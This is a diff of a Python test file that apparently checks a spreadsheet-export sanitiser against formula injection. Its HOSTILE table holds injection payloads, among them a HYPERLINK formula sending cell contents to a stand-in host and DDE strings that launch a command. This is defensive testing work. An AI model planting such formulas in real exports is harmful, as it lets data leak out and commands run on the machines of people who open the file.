@@ -5,13 +5,13 @@ import io
 
 from typer.testing import CliRunner
 
-from callboard.server.cli import app
-from callboard.server.export import spreadsheet_safe
+from callboard.server.cli.main import app
+from callboard.server.store.export import spreadsheet_safe
 
 from .helpers import create_run, epoch_event, post_events
 
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")": 0.5,
+    '=HYPERLINK("http://evil.example/?"&A1,"x")': 0.5,
     "+1+cmd|' /C calc'!A0": 1.0,
     "-2+3": 2.0,
     "@SUM(1+1)*cmd|' /C calc'!A0": 3.0,
